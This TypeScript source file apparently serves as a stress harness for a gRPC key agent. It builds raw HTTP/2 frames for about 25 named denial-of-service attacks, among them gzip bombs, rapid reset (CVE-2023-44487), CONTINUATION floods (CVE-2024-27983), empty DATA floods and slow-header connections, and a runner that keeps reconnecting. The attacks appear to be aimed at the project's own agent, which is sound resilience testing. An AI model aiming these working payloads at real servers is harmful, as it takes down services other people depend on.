// What a hostile or broken client does to the agent's socket. Each attack goes on until its process is ended.
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { callHeaders, FLAG, FRAME, frame, integer, opening } from './http2-frames.ts';

const MIB = 2 ** 20;
const PATH = '/dekd.v1.KeyAgent/Encrypt';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const WATCH = '/grpc.health.v1.Health/Watch';
/** More than one uid may have open. */
const MANY = 1_000;

/** What one connection does: sends as fast as the other side takes it, and comes again when it is cut off. */
interface Attack {
  readonly connections: number;
  /** Sent first. */
  readonly start: () => Buffer;
  /** Sent again and again; undefined: nothing more, the connection is held. */
  readonly next?: (round: number) => Buffer;
  /** Between one `next` and the other, in milliseconds; default 0: as fast as it goes. */
  readonly pauseMs?: number;
  /** Answers are left in the kernel. */
  readonly deaf?: boolean;
  /** Ends the connection after its start, to come again. */
  readonly leaves?: boolean;
}

/** 30,000 `items` of a batch, which say nothing. */
const EMPTY_ITEMS = Buffer.alloc(60_000).fill(Buffer.of(0x0a, 0));

const stream = (round: number) => 2 * round + 1;
const headers = (id: number, flags: number, more?: Record<string, string>) =>
  frame(FRAME.headers, flags, id, callHeaders(PATH, more));

/** A message of `bytes`, of which the first `sent` come. */
function message(bytes: number, sent: number, compressed = 0): Buffer {
  const whole = Buffer.alloc(5 + sent);
  whole[0] = compressed;
  whole.writeUInt32BE(bytes, 1);
  return whole;
}

/** A call with an ordinary answer of `bytes` and some. */
function wholeCall(id: number, bytes: number): Buffer {
  // key = "default", plaintext = zeroes (agent.proto).
  const length = Buffer.of((bytes & 127) | 128, ((bytes >> 7) & 127) | 128, bytes >> 14);
  return callWith(id, Buffer.concat([Buffer.from('\n\x07default\x12'), length, Buffer.alloc(bytes)]));
}

function callWith(id: number, request: Buffer, path?: string): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(request.length, 1);
  const body = Buffer.concat([prefix, request]);
  const frames = [headers(id, FLAG.endHeaders, path === undefined ? {} : { ':path': path })];
  const most = 16_384;
  for (let at = 0; at < body.length; at += most) {
    const last = at + most >= body.length;
    frames.push(frame(FRAME.data, last ? FLAG.endStream : FLAG.none, id, body.subarray(at, at + most)));
  }
  return Buffer.concat(frames);
}

/** A HealthCheckRequest of a service with a name of 3,000 characters. */
function watched(service: string): Buffer {
  const length = Buffer.of((service.length & 127) | 128, service.length >> 7);
  const request = Buffer.concat([Buffer.of(10), length, Buffer.from(service)]);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(request.length, 1);
  return Buffer.concat([prefix, request]);
}

/** Many rounds of one kind in one piece, so that the attacker is not the slower one. */
function many(count: number, of: (round: number) => Buffer): (round: number) => Buffer {
  return (round) => Buffer.concat(Array.from({ length: count }, (_, at) => of(round * count + at)));
}

/** 60 MiB in some 60 KB: within the window that a server gives at first (RFC 9113, section 6.9.2). */
let bomb: Buffer | undefined;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'garbage instead of HTTP/2': { connections: 16, start: () => randomBytes(65_536), next: () => randomBytes(65_536) },
  'garbage after the preface': { connections: 16, start: () => opening(), next: () => randomBytes(16_384) },
  'calls whose messages are garbage': {
    connections: 4,
    start: () => opening(),
    next: many(16, (round) =>
      Buffer.concat([
        headers(stream(round), FLAG.endHeaders),
        frame(FRAME.data, FLAG.endStream, stream(round), Buffer.concat([message(200, 0), randomBytes(200)])),
      ]),
    ),
  },
  'compressed bombs': {
    connections: 4,
    start: () => opening(),
    next: (round) => {
      bomb ??= gzipSync(Buffer.alloc(60 * MIB));
      const body = Buffer.concat([message(bomb.length, 0, 1), bomb]);
      return Buffer.concat([
        headers(stream(round), FLAG.endHeaders, { 'grpc-encoding': 'gzip' }),
        ...[0, 16_384, 32_768, 49_152].map((at) =>
          frame(FRAME.data, at === 49_152 ? FLAG.endStream : 0, stream(round), body.subarray(at, at + 16_384)),
        ),
      ]);
    },
    pauseMs: 5,
  },
  'answers that nobody reads': {
    connections: 32,
    deaf: true,
    start: () => Buffer.concat([opening(2 ** 31 - 1), frame(FRAME.windowUpdate, FLAG.none, 0, integer(2 ** 30))]),
    next: (round) => wholeCall(stream(round), 16_384),
  },
  'answers that no window lets out': {
    connections: 32,
    start: () => opening(0),
    next: (round) => wholeCall(stream(round), 16_384),
  },
  'questions to reflection whose answers no window lets out': {
    connections: 8,
    start: () => opening(0),
    next: (round) =>
      Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, stream(round), callHeaders(REFLECTION)),
        // As many empty ones as a frame holds.
        frame(FRAME.data, FLAG.none, stream(round), Buffer.alloc(16_380)),
      ]),
    pauseMs: 1,
  },
  'names of services that nobody knows, watched': {
    connections: 6,
    start: () => opening(),
    next: (round) =>
      Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, stream(round), callHeaders(WATCH)),
        frame(FRAME.data, FLAG.endStream, stream(round), watched(randomBytes(1_500).toString('hex'))),
        ...(round < 32 ? [] : [frame(FRAME.rstStream, FLAG.none, stream(round - 32), integer(8))]),
      ]),
    // No more resets than a connection may have.
    pauseMs: 20,
  },
  'streams that wait for an unread answer, and are reset': {
    connections: 6,
    start: () => Buffer.concat([opening(0), wholeCall(1, 16_384)]),
    // Until what is unread holds further ones back: then their headers.
    next: (round) =>
      round < 32
        ? wholeCall(stream(round + 1), 16_384)
        : Buffer.concat([
            headers(stream(round + 1), FLAG.endHeaders, { 'x-large': 'x'.repeat(7_000) }),
            frame(FRAME.rstStream, FLAG.none, stream(round + 1), integer(8)),
          ]),
    pauseMs: 20,
  },
  'headers with bytes that gRPC does not allow': {
    connections: 4,
    start: () => opening(),
    next: many(4, (round) => headers(stream(round), FLAG.endHeaders, { 'x-tab': `\t${'x'.repeat(7_000)}` })),
    pauseMs: 5,
  },
  '1,000 silent connections': { connections: MANY, start: () => Buffer.alloc(0) },
  '1,000 connections that begin': { connections: MANY, start: () => opening() },
  'connections that come and go': { connections: 64, start: () => opening(), leaves: true },
  'streams without end': {
    connections: 16,
    start: () => opening(),
    next: many(64, (round) => headers(stream(round), FLAG.endHeaders)),
  },
  'half messages that hold memory': {
    connections: 64,
    start: () => opening(),
    next: many(16, (round) =>
      Buffer.concat([
        headers(stream(round), FLAG.endHeaders),
        frame(FRAME.data, FLAG.none, stream(round), message(4 * MIB, 1)),
      ]),
    ),
    pauseMs: 20,
  },
  'slow headers': {
    connections: 200,
    start: () => Buffer.concat([opening(), headers(1, FLAG.none)]).subarray(0, -20),
    next: () => Buffer.of(0),
    pauseMs: 500,
  },
  'slow bodies': {
    connections: 200,
    start: () => Buffer.concat([opening(), headers(1, FLAG.endHeaders)]),
    next: (round) => frame(FRAME.data, FLAG.none, 1, round === 0 ? message(MIB, 1) : Buffer.of(0)),
    pauseMs: 200,
  },
  'huge headers': {
    connections: 8,
    start: () => opening(),
    next: (round) => {
      const block = callHeaders(PATH, { 'x-large': 'x'.repeat(200_000) });
      const parts = [0, 1, 2, 3].map((at) => block.subarray(at * 16_384, (at + 1) * 16_384));
      return Buffer.concat(
        parts.map((part, at) =>
          frame(at === 0 ? FRAME.headers : FRAME.continuation, at === 3 ? FLAG.endHeaders : 0, stream(round), part),
        ),
      );
    },
  },
  'CONTINUATION without end': {
    connections: 16,
    start: () => Buffer.concat([opening(), frame(FRAME.headers, FLAG.none, 1, callHeaders(PATH))]),
    // CVE-2024-27983 and its like.
    next: many(64, (round) => frame(FRAME.continuation, FLAG.none, 1, callHeaders(PATH, { [`x-${round}`]: 'x' }))),
  },
  'streams opened and reset': {
    // CVE-2023-44487.
    connections: 16,
    start: () => opening(),
    next: many(100, (round) =>
      Buffer.concat([
        headers(stream(round), FLAG.endHeaders | FLAG.endStream),
        frame(FRAME.rstStream, FLAG.none, stream(round), integer(8)),
      ]),
    ),
  },
  'calls answered and reset': {
    connections: 16,
    start: () => opening(),
    next: many(4, (round) =>
      Buffer.concat([wholeCall(stream(round), 300), frame(FRAME.rstStream, FLAG.none, stream(round), integer(8))]),
    ),
  },
  PING: {
    connections: 16,
    deaf: true,
    start: () => opening(),
    next: many(500, () => frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8))),
  },
  SETTINGS: {
    connections: 16,
    deaf: true,
    start: () => opening(),
    next: many(500, () => frame(FRAME.settings, FLAG.none, 0)),
  },
  'windows that grow and overflow': {
    connections: 16,
    start: () => Buffer.concat([opening(), headers(1, FLAG.endHeaders)]),
    next: many(200, (round) =>
      frame(FRAME.windowUpdate, FLAG.none, round % 2, integer(round % 500 === 499 ? 2 ** 31 - 1 : 1)),
    ),
  },
  'batches of empty items': {
    connections: 16,
    start: () => opening(),
    next: (round) => callWith(stream(round), EMPTY_ITEMS, '/dekd.v1.KeyAgent/EncryptBatch'),
    // The other side's window is one such message.
    pauseMs: 5,
  },
  'empty DATA': {
    // CVE-2019-9518.
    connections: 16,
    start: () => Buffer.concat([opening(), headers(1, FLAG.endHeaders)]),
    next: many(500, () => frame(FRAME.data, FLAG.none, 1)),
  },
};

/** Runs one attack against a socket until the process ends. */
export function attack(name: string, socket: string): void {
  const found = ATTACKS[name];
  if (found === undefined) throw new Error(`no attack is called ${name}`);
  for (let at = 0; at < found.connections; at++) new Attacker(socket, found).connect();
}

/** An end of the connection costs the other side more than a pause costs us. */
const AGAIN_MS = 10;

class Attacker {
  readonly #path: string;
  readonly #attack: Attack;

  constructor(path: string, what: Attack) {
    this.#path = path;
    this.#attack = what;
  }

  connect(): void {
    const socket = connect(this.#path);
    socket.on('error', () => {});
    socket.once('close', () => setTimeout(() => this.connect(), AGAIN_MS));
    if (this.#attack.deaf !== true) socket.resume();
    const first = this.#attack.start();
    if (first.length > 0) socket.write(first);
    if (this.#attack.leaves === true) socket.end();
    else this.#goOn(socket, 0);
  }

  #goOn(socket: Socket, round: number): void {
    const { next, pauseMs = 0 } = this.#attack;
    if (next === undefined || socket.destroyed) return;
    const again = () => this.#goOn(socket, round + 1);
    const later = () => (pauseMs === 0 ? setImmediate(again) : setTimeout(again, pauseMs));
    if (socket.write(next(round))) later();
    else socket.once('drain', later);
  }
}
